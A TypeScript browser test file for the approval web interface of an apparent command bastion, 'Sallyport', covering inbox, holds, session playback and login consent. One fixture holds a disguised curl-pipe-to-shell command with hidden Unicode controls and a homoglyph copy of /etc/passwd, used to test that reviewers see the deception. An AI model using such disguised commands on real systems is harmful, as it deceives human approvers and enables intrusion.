/**
 * The pages in a real Chromium against a listening server: they work under the strict Content-Security-Policy, change
 * without a reload, and are kept as pictures in `.test/screenshots/` for people to look at.
 */
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import type { Waiting } from '../../src/approval/desk.ts'
import type { SessionRecord } from '../../src/core/session.ts'
import { EXAMPLE_CAST } from '../web/example-cast.ts'
import { LIMIT, PEOPLE } from '../web/world.ts'
import { pagesUnderTest } from './pages-under-test.ts'
import { barriers, DARK, DESK, LOOKS, PHONE, picture } from './parts.ts'

const here = pagesUnderTest()

const SCREEN = [
  'deploy@web-1:/srv/data$ ls -l',
  'total 12',
  'drwxr-xr-x 2 deploy deploy 4096 Nov 24 20:10 current',
  'drwxr-xr-x 2 deploy deploy 4096 Nov 19 09:12 old',
  '-rw-r--r-- 1 deploy deploy  812 Nov 24 20:31 orders.csv',
  'deploy@web-1:/srv/data$ rm -rf /srv/data/old',
]

async function aliceAsks(): Promise<{ session: SessionRecord; waiting: Waiting }> {
  const session = await here.world.openSession(PEOPLE.alice, { screen: SCREEN })
  return { session, waiting: await here.world.hold(session, { screen: SCREEN }) }
}

/** Several requests of several people, one of them written to deceive. */
async function busyDay(): Promise<Waiting> {
  const bobs = await here.world.openSession(PEOPLE.bob, { target: 'web-2' })
  const text = 'sudo systemctl restart nginx'
  await here.world.hold(bobs, {
    text,
    analysis: {
      effects: ['privilege', 'write'],
      objects: [],
      commands: [
        {
          text,
          name: 'sudo',
          start: 0,
          end: text.length,
          effects: ['privilege'],
          objects: [],
          because: 'sudo runs what follows as root',
        },
      ],
    },
  })
  const daves = await here.world.openSession(PEOPLE.dave, { kind: 'exec', address: '10.20.3.7' })
  const pipe = 'curl -s https://get.example.test/install.sh | sh\u200b -s -- --\u202eetomer\u202c\ncp /etc/pаsswd /tmp/'
  await here.world.hold(daves, {
    text: pipe,
    action: { kind: 'exec', assurance: 'inferred' },
    analysis: {
      effects: ['transfer', 'opaque', 'escape', 'read', 'write'],
      objects: [{ kind: 'url', value: 'https://get.example.test/install.sh' }],
      commands: [
        {
          text: 'curl -s https://get.example.test/install.sh',
          name: 'curl',
          start: 0,
          end: 43,
          effects: ['transfer'],
          objects: [{ kind: 'url', value: 'https://get.example.test/install.sh' }],
          because: 'curl fetches from another host',
        },
        {
          text: 'sh\u200b -s -- --\u202eetomer\u202c',
          name: undefined,
          start: 46,
          end: 66,
          effects: ['opaque', 'escape'],
          objects: [],
          because: 'the name of the command holds a character that no command has',
        },
        {
          text: 'cp /etc/pаsswd /tmp/',
          name: 'cp',
          start: 67,
          end: 87,
          effects: ['read', 'write'],
          objects: [
            { kind: 'path', value: '/etc/pаsswd' },
            { kind: 'path', value: '/tmp/' },
          ],
          because: 'cp copies files',
        },
      ],
    },
  })
  const decided = await here.world.hold(daves, { text: 'rm /var/log/nginx/error.log.1' })
  await here.world.desk.decide(decided.hold.id, PEOPLE.erin, {
    kind: 'reject',
    reason: 'Logrotate does this; wait until tonight.',
  })
  const { waiting } = await aliceAsks()
  return waiting
}

describe('the inbox', () => {
  it.each(Object.entries(LOOKS))('is drawn without a complaint (%s)', async (name, look) => {
    await busyDay()
    const page = await here.open('bob', '/', look)
    await page.getByRole('heading', { name: /Yours to decide/ }).waitFor()
    expect(await page.title()).toBe('(2) Inbox · Sallyport')
    await picture(page, `inbox-${name}`)
    expect(await barriers(page)).toEqual([])
    expect(here.complaints).toEqual([])
  })

  it('shows a new hold, and its end, without a reload', async () => {
    const page = await here.open('bob', '/')
    await page.getByText('Nothing waits').waitFor()
    await picture(page, 'inbox-empty')
    const { waiting } = await aliceAsks()
    await page.getByRole('link', { name: 'rm -rf /srv/data/old' }).waitFor({ timeout: 2000 })
    waiting.withdraw('pressed Ctrl-C')
    await page.getByText('withdrawn', { exact: true }).waitFor({ timeout: 2000 })
    expect(here.complaints).toEqual([])
  })

  it('decides several at once that say the same, and no other', async () => {
    const restart = 'sudo systemctl restart nginx'
    const alike = []
    for (const who of ['alice', 'dave'] as const)
      alike.push(await here.world.hold(await here.world.openSession(PEOPLE[who]), { text: restart }))
    const { waiting: other } = await aliceAsks()
    const page = await here.open('bob', '/', PHONE)
    await page.getByRole('button', { name: 'Decide all 2…' }).click()
    await page.getByRole('textbox', { name: /Reason/ }).fill('the new certificate')
    await picture(page, 'inbox-bulk-phone')
    expect(await barriers(page)).toEqual([])
    await page.getByRole('button', { name: 'Approve all 2, once each' }).click()
    await page.getByRole('region', { name: '2 alike' }).waitFor({ state: 'detached' })
    for (const { outcome } of alike) expect(await outcome).toMatchObject({ kind: 'cleared' })
    expect((await here.world.desk.find(other.hold.id)).state.kind).toBe('pending')
    expect(here.complaints).toEqual([])
  })

  it('notifies, once it is asked to, of what is new to decide, and without its text', async () => {
    const page = await here.open('bob', '/')
    await page.context().grantPermissions(['notifications'], { origin: here.address })
    // The real notification is shown by the desktop, out of a test's sight: what it is given is kept beside it.
    await page.evaluate(`globalThis.notes = []
      globalThis.Notification = class extends Notification {
        constructor(title, options) { super(title, options); notes.push(title + ': ' + options.body) }
      }`)
    const notes = () => page.evaluate<string[]>('notes')
    await aliceAsks()
    await page.getByRole('link', { name: 'rm -rf /srv/data/old' }).waitFor()
    expect(await notes()).toEqual([])
    await page.getByRole('button', { name: 'Notify me' }).click()
    await page.getByRole('button', { name: 'Notifications are on', pressed: true }).waitFor()
    await here.world.hold(await here.world.openSession(PEOPLE.bob), { text: 'rm own' })
    await here.world.hold(await here.world.openSession(PEOPLE.dave), { text: 'rm other', quorum: { count: 2 } })
    await page.getByRole('link', { name: 'rm other' }).waitFor()
    expect(await notes()).toEqual(['Dave Dunn asks: A command on web-1 waits for a second person.'])
    expect(here.complaints).toEqual([])
  })

  it('says that it is no longer live, and is live again after the bastion was away', async () => {
    const page = await here.open('bob', '/')
    await page.context().setOffline(true)
    await here.stop()
    await page.getByText('Not live').waitFor()
    await page.context().setOffline(false)
    await here.start()
    // Restarting signs everybody out, and the page says so instead of showing what is no longer true.
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
    await picture(page, 'signed-out')
    expect(await barriers(page)).toEqual([])
  })
})

describe('a hold', () => {
  it.each(Object.entries(LOOKS))('is drawn without a complaint (%s)', async (name, look) => {
    const waiting = await busyDay()
    const page = await here.open('bob', `/holds/${waiting.hold.id}`, look)
    await page.getByRole('button', { name: /Approve/ }).waitFor()
    await page.getByText('online: Bob Bell').waitFor()
    await picture(page, `hold-${name}`)
    expect(await barriers(page)).toEqual([])
    expect(here.complaints).toEqual([])
  })

  it('fault 39: draws what a terminal would hide or obey', async () => {
    await busyDay()
    const page = await here.open('bob', '/')
    await page.getByRole('link', { name: /curl/ }).click()
    const exact = page.getByRole('region', { name: 'The exact text' })
    await exact.waitFor()
    expect(await exact.textContent()).toContain('sh⟨200B⟩ -s -- --⟨202E⟩etomer⟨202C⟩⏎')
    await page.getByText('characters that a screen does not show').waitFor()
    await picture(page, 'hold-deceiving')
    expect(await page.locator('.exact .parsed-transfer').textContent()).toBe(
      'curl -s https://get.example.test/install.sh',
    )
    expect(await barriers(page)).toEqual([])
    expect(here.complaints).toEqual([])
  })

  it('is approved with the keyboard: the key only opens the question', async () => {
    const { waiting } = await aliceAsks()
    const page = await here.open('bob', `/holds/${waiting.hold.id}`)
    await page.getByRole('button', { name: /Approve/ }).waitFor()
    await page.keyboard.press('a')
    await page.getByRole('button', { name: 'Approve this command' }).waitFor()
    expect(await page.evaluate('document.activeElement.tagName')).toBe('TEXTAREA')
    await page.keyboard.type('space is needed')
    await picture(page, 'hold-confirm')
    expect(await barriers(page)).toEqual([])
    expect((await here.world.desk.find(waiting.hold.id)).state.kind).toBe('pending')
    await page.keyboard.press('Control+Enter')
    await expect(waiting.outcome).resolves.toMatchObject({ kind: 'cleared' })
    await page.getByText('It is about to run.').waitFor()
    await here.world.desk.approvals.running(waiting.hold.id)
    await page.getByText('It is running.').waitFor({ timeout: 2000 })
    await here.world.desk.approvals.finished(waiting.hold.id, 0)
    await page.getByText('ended with exit status 0').waitFor({ timeout: 2000 })
    await picture(page, 'hold-done')
    expect(here.complaints).toEqual([])
  })

  it.each([
    ['phone', { ...PHONE, colorScheme: 'dark' as const }],
    ['dark', DARK],
  ])('lets the length of a grant be chosen, and its session shows it (%s)', async (name, look) => {
    const session = await here.world.openSession(PEOPLE.alice, { screen: SCREEN })
    const waiting = await here.world.hold(session, { quorum: { grant: LIMIT } })
    const page = await here.open('bob', `/holds/${waiting.hold.id}`, look)
    await page.getByRole('button', { name: /Approve/ }).click()
    await page.getByLabel('Now and again, in this session').check()
    await page.getByLabel(/minutes, 60 at most/).fill('20')
    await picture(page, `hold-grant-${name}`)
    expect(await barriers(page)).toEqual([])
    await page.getByRole('button', { name: 'Approve it for 20 min' }).click()
    await expect(waiting.outcome).resolves.toMatchObject({ grant: { scope: 'session' } })
    await page.goto(`${here.address}/sessions/${session.id}`)
    await page.getByRole('heading', { name: 'Granted in this session' }).waitFor()
    await picture(page, `session-granted-${name}`)
    await page.getByRole('button', { name: 'Revoke' }).click()
    await expect.poll(() => here.world.desk.grants.live()).toEqual([])
  })

  it('is rejected with a reason on a phone', async () => {
    const { waiting } = await aliceAsks()
    const page = await here.open('bob', `/holds/${waiting.hold.id}`, PHONE)
    await page.getByRole('button', { name: /Reject/ }).tap()
    await page.getByRole('button', { name: 'Reject this command' }).tap()
    // The browser itself asks for the reason; nothing was sent.
    expect((await here.world.desk.find(waiting.hold.id)).state.kind).toBe('pending')
    await page.getByLabel(/Reason/).fill('Not in working hours.')
    await picture(page, 'hold-reject-phone')
    await page.getByRole('button', { name: 'Reject this command' }).tap()
    await expect(waiting.outcome).resolves.toMatchObject({ kind: 'refused', how: 'rejected' })
    await page.getByText('Rejected by Bob Bell: Not in working hours.').waitFor()
    expect(here.complaints).toEqual([])
  })

  it('fault 43: offers its requester no button but to say why, and tells who decides', async () => {
    const { waiting } = await aliceAsks()
    const page = await here.open('alice', `/holds/${waiting.hold.id}`)
    await page.getByText('You asked for this command yourself; somebody else has to decide it.').waitFor()
    expect(await page.getByRole('button').allInnerTexts()).toEqual(['Say it'])
    await picture(page, 'hold-own')
  })
})

describe('a session', () => {
  async function endedSession(): Promise<SessionRecord> {
    const startedAt = new Date(Date.now() - 400_000)
    const session = await here.world.openSession(PEOPLE.alice, {
      startedAt,
      endedAt: new Date(Date.now() - 310_000),
      exitStatus: 0,
    })
    const waiting = await here.world.hold(session, { screen: SCREEN })
    await here.world.desk.decide(waiting.hold.id, PEOPLE.bob, {
      kind: 'approve',
      reason: 'space is needed for the release',
    })
    await here.world.record(session, EXAMPLE_CAST)
    return session
  }

  it.each(Object.entries(LOOKS))('plays its recording without a complaint (%s)', async (name, look) => {
    const session = await endedSession()
    // From a marker on, so that both a seek and what is played after it are seen to work.
    const page = await here.open('carol', `/sessions/${session.id}`, look)
    await page.locator('.ap-player').waitFor()
    await page.locator('a.moment', { hasText: 'approved by Bob Bell' }).click()
    const screen = () => page.locator('.ap-term').textContent()
    await expect.poll(screen, { timeout: 15_000 }).toContain('asked the role reviewer')
    await page.locator('.ap-playback-button').click()
    await expect.poll(screen, { timeout: 15_000 }).toContain('approved by Bob Bell: space is needed')
    await picture(page, `session-${name}`)
    expect(await barriers(page)).toEqual([])
    expect(here.complaints).toEqual([])
    expect((await here.world.events('recording.viewed')).map(({ actorName }) => actorName)).toEqual(['Carol Cole'])
  })

  it('is loaded as a document of its own, whose policy alone allows what the player needs', async () => {
    const session = await endedSession()
    const page = await here.open('carol', '/sessions')
    await picture(page, 'sessions')
    expect(await barriers(page)).toEqual([])
    const policies: string[] = []
    page.on('response', async (response) => {
      if (response.request().isNavigationRequest()) policies.push(response.headers()['content-security-policy'] ?? '')
    })
    await page.locator(`a[href="/sessions/${session.id}"]`).click()
    await page.locator('.ap-player').waitFor()
    await page.getByRole('link', { name: 'Inbox' }).click()
    await page.getByRole('heading', { name: 'Inbox' }).waitFor()
    expect(policies).toHaveLength(2)
    expect(policies[0]).toContain("'wasm-unsafe-eval'")
    expect(policies[1]).not.toContain('wasm')
    expect(here.complaints).toEqual([])
  })

  it('that is live can be ended by its owner', async () => {
    const session = await here.world.openSession(PEOPLE.alice)
    await here.world.record(session, EXAMPLE_CAST)
    const page = await here.open('alice', `/sessions/${session.id}`)
    await page.getByText('This session has no terminal.').waitFor()
    await page.getByRole('button', { name: 'End this session…' }).click()
    await picture(page, 'session-live')
    await page.getByRole('button', { name: 'End it now' }).click()
    await page.getByText('ended by the bastion').waitFor()
    expect(here.world.endings.get(session.id)).toContain('Alice Ames')
    expect(here.complaints).toEqual([])
  })
})

describe('letting a terminal in', () => {
  it.each(Object.entries(LOOKS))('takes the code and then the words (%s)', async (name, look) => {
    const { attempt, confirm } = await here.world.login('WDJB-MJHT')
    const page = await here.open('alice', '/d/WDJB-MJHT', look)
    await page.getByRole('link', { name: 'Confirm the code' }).waitFor()
    await picture(page, `consent-code-${name}`)
    await confirm(PEOPLE.alice)
    await page.getByText('Pick the words your terminal shows').waitFor({ timeout: 3000 })
    await picture(page, `consent-words-${name}`)
    expect(await barriers(page)).toEqual([])
    await page.getByRole('button', { name: attempt.words }).click()
    await page.getByText('Your terminal goes on').waitFor()
    await expect(attempt.outcome).resolves.toMatchObject({ kind: 'approved' })
    await picture(page, `consent-done-${name}`)
    expect(here.complaints).toEqual([])
  })

  it('fault 7: warns when the terminal is somewhere else than the browser', async () => {
    const { attempt } = await here.world.login('WDJB-MJHT', { address: '203.0.113.9', fingerprint: undefined })
    const page = await here.open('alice', '/d/WDJB-MJHT')
    await page.getByText('The terminal is at 203.0.113.9, this browser at 127.0.0.1.').waitFor()
    await picture(page, 'consent-elsewhere')
    await page.getByRole('button', { name: 'This was not me' }).click()
    await page.getByText('The terminal was refused').waitFor()
    await expect(attempt.outcome).resolves.toMatchObject({ kind: 'denied' })
    expect((await here.world.events('login.denied'))[0]?.detail).toMatchObject({ notMe: true })
  })

  it('refuses when somebody else confirmed the code, and says so for a code that is gone', async () => {
    const { confirm } = await here.world.login('WDJB-MJHT')
    await confirm(PEOPLE.dave)
    const page = await here.open('alice', '/d/WDJB-MJHT')
    await page.getByText('Somebody else confirmed this code').waitFor()
    await picture(page, 'consent-other-person')
    await page.goto(`${here.address}/d`)
    await page.getByLabel('The code that your terminal shows').fill('bcdf-ghjk')
    await picture(page, 'consent-type')
    await page.keyboard.press('Enter')
    await page.getByText('This code is not waiting').waitFor()
  })

  it('signs a stranger in first, and comes back to the code', async () => {
    await here.world.login('WDJB-MJHT')
    here.world.provider.who = 'alice'
    const page = await (await here.browser.newContext(DESK)).newPage()
    await page.goto(`${here.address}/d/WDJB-MJHT`)
    await page.getByRole('link', { name: 'Confirm the code' }).waitFor()
    expect(new URL(page.url()).pathname).toBe('/d/WDJB-MJHT')
  })
})

describe('the other pages', () => {
  it('need little: all scripts together are under 150 kB compressed, and the player comes only where it is used', async () => {
    const folder = join(import.meta.dirname, '../../src/web/ui/dist/assets')
    const scripts = readdirSync(folder).filter((name) => name.endsWith('.js'))
    const sizes = scripts.map((name) => gzipSync(readFileSync(join(folder, name))).length)
    expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThan(150_000)
    const page = await here.open('bob', '/')
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await page.reload()
    await page.waitForSelector('.live-live')
    expect(asked.filter((url) => url.endsWith('.js'))).toHaveLength(1)
  })

  it('show a person their keys, and revoke one', async () => {
    await here.world.bindKey(PEOPLE.alice, { lastUsedAt: new Date() })
    await here.world.bindKey(PEOPLE.alice, { fingerprint: `SHA256:${'x'.repeat(43)}`, revokedAt: new Date() })
    await here.world.openSession(PEOPLE.alice)
    const page = await here.open('alice', '/me')
    await page.getByRole('button', { name: 'Revoke…' }).click()
    await picture(page, 'me')
    expect(await barriers(page)).toEqual([])
    await page.getByRole('button', { name: 'Revoke this key' }).click()
    await expect.poll(() => page.getByText('revoked', { exact: true }).count()).toBe(2)
    await page.getByRole('button', { name: 'Sign out' }).click()
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
  })

  it('revoke all keys of a person at once, and nobody else’s', async () => {
    const letters = ['a', 'b', 'c']
    for (const letter of letters) await here.world.bindKey(PEOPLE.alice, { fingerprint: `SHA256:${letter.repeat(43)}` })
    const daves = await here.world.bindKey(PEOPLE.dave, { fingerprint: `SHA256:${'d'.repeat(43)}` })
    const page = await here.open('alice', '/me')
    await page.getByRole('button', { name: 'Revoke all 3 keys…' }).click()
    await picture(page, 'me-revoke-all')
    await page.getByRole('button', { name: 'Revoke all of them' }).click()
    await expect.poll(() => page.getByText('revoked', { exact: true }).count()).toBe(3)
    expect(await here.world.store.keys.findLive(daves.fingerprint, new Date())).toBeDefined()
    expect(here.complaints).toEqual([])
  })

  it('show an auditor the log, older pages too', async () => {
    const session = await here.world.openSession(PEOPLE.alice)
    for (let index = 0; index < 60; index += 1)
      await here.world.hold(session, { text: `rm -rf /srv/data/old/${index}` })
    await busyDay()
    for (let index = 0; index < 60; index += 1) await here.world.hold(session, { text: `rm /srv/data/${index}` })
    const page = await here.open('carol', '/audit')
    await page.getByRole('table').waitFor()
    await picture(page, 'audit')
    expect(await barriers(page)).toEqual([])
    await page.getByRole('button', { name: 'Older events' }).click()
    await page.getByText('This is the beginning of the log.').waitFor()
    expect(here.complaints).toEqual([])
  })

  it('are gone through with j and k, until the person turns single keys off', async () => {
    const bobs = await here.world.openSession(PEOPLE.dave)
    for (const text of ['rm one', 'rm two']) await here.world.hold(bobs, { text })
    const page = await here.open('bob', '/')
    await page.getByRole('link', { name: 'rm one' }).waitFor()
    const focused = () => page.evaluate('document.activeElement.textContent')
    for (const [key, text] of [
      ['j', 'rm two'],
      ['j', 'rm one'],
      ['j', 'rm one'],
      ['k', 'rm two'],
    ] as const) {
      await page.keyboard.press(key)
      expect(await focused()).toBe(text)
    }
    await page.keyboard.press('Enter')
    await page.getByRole('button', { name: /Approve/ }).waitFor()
    await page.goto(`${here.address}/me`)
    await page.getByRole('checkbox', { name: /Single keys are shortcuts/ }).uncheck()
    expect(await barriers(page)).toEqual([])
    await page.goto(`${here.address}/`)
    await page.getByRole('link', { name: 'rm two' }).click()
    await page.getByRole('button', { name: /Approve/ }).waitFor()
    await page.keyboard.press('a')
    await page.getByRole('button', { name: /Approve…/ }).click()
    await page.getByRole('button', { name: 'Approve this command' }).waitFor()
    expect(here.complaints).toEqual([])
  })

  it('work from the keyboard: the skip link is first, and every page names itself to who cannot see it', async () => {
    const page = await here.open('carol', '/')
    await page.keyboard.press('Tab')
    expect(await page.evaluate('document.activeElement.textContent')).toBe('Skip to the content')
    await page.getByRole('link', { name: 'Audit' }).click()
    await page.getByRole('table').waitFor()
    expect(await page.evaluate('document.activeElement.tagName')).toBe('H1')
    expect(await page.title()).toBe('Audit · Sallyport')
    // What finds no barrier anywhere must find one that is put there.
    await page.evaluate("document.documentElement.lang = ''")
    expect(await barriers(page)).toEqual([expect.stringContaining('html-has-lang')])
  })
})
